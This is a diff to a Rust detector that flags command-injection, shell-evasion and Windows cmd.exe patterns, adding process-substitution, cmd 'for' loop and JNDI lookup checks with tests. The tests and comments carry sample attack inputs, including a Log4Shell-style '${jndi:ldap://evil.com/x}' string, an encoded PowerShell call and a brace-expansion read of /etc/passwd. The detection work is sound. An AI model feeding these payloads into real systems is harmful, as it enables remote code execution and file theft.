@@ -146,7 +146,10 @@ pub fn detect(decoded: &[u8]) -> Vec<Rule> {
     if INVOCATIONS.iter().any(|i| squeezed.contains(i)) {
         out.push(RCE_SHELL_INVOCATION);
     }
-    if WINDOWS.iter().any(|w| squeezed.contains(w)) || has_windows_if(&squeezed) {
+    if WINDOWS.iter().any(|w| squeezed.contains(w))
+        || has_windows_if(&squeezed)
+        || has_windows_for(&squeezed)
+    {
         out.push(RCE_WINDOWS);
     }
     out
@@ -233,19 +236,36 @@ fn shell_like_arguments(after: &str) -> bool {
 
 /// `$(…)` or a backtick pair with something inside.
 fn has_substitution(text: &str) -> bool {
+    // Process substitution: `<(cmd)`, `>(cmd)`.
+    let process = ["<(", ">("].iter().any(|p| {
+        text.match_indices(p).any(|(i, _)| {
+            text.get(i + 2..)
+                .and_then(|r| r.split(')').next().filter(|_| r.contains(')')))
+                .is_some_and(|inner| {
+                    !inner.is_empty()
+                        && inner.bytes().all(|b| {
+                            b.is_ascii_alphanumeric() || b == b' ' || b == b'-' || b == b'/'
+                        })
+                })
+        })
+    });
     let dollar = text.match_indices("$(").any(|(i, _)| {
         text.get(i + 2..)
             .is_some_and(|r| r.contains(')') && names_command(r))
     });
     let backticks =
         text.matches('`').count() >= 2 && text.split('`').nth(1).is_some_and(names_command);
-    dollar || backticks
+    process || dollar || backticks
 }
 
 /// `$IFS`, `${IFS}`, brace expansion with a comma (`{cat,/etc/passwd}`), `$@`/`$9` splitting a
 /// command word (`ca$@t`), and a known command spelled with quotes or backslashes.
 fn has_shell_evasion(text: &str) -> bool {
-    if text.contains("$ifs") || text.contains("${ifs") || text.contains("$'\\x") {
+    if text.contains("$ifs")
+        || text.contains("${ifs")
+        || text.contains("$'\\x")
+        || text.contains("${jndi:")
+    {
         return true;
     }
     let brace = text.match_indices('{').any(|(i, _)| {
@@ -275,6 +295,14 @@ fn has_shell_evasion(text: &str) -> bool {
                 && name.len() > 1
                 && (COMMANDS.contains(&name) || WORD_COMMANDS.contains(&name))
         })
+}
+
+/// cmd.exe's `for`: `for [/d|/r|/l|/f] %x in (…) do …`.
+fn has_windows_for(squeezed: &str) -> bool {
+    squeezed.match_indices("for ").any(|(i, _)| {
+        let rest = squeezed.get(i..).unwrap_or_default();
+        rest.contains('%') && rest.contains(" in (") && rest.contains(" do ")
+    })
 }
 
 /// `if /i`, `if not exist`, `if defined`: cmd.exe's `if` forms.
@@ -344,6 +372,9 @@ mod tests {
         assert!(ids("cmd.exe /c dir").contains(&"rce-005"));
         assert!(ids("powershell -enc AAAA").contains(&"rce-005"));
         assert!(ids("IF /I \"%var%\"==\"x\" ( ECHO found )").contains(&"rce-005"));
+        assert!(ids("FOR /D %a IN (dirs) DO abc").contains(&"rce-005"));
+        assert!(ids("x=<(cmd)").contains(&"rce-002"));
+        assert!(ids("${jndi:ldap://evil.com/x}").contains(&"rce-003"));
     }
 
     #[test]
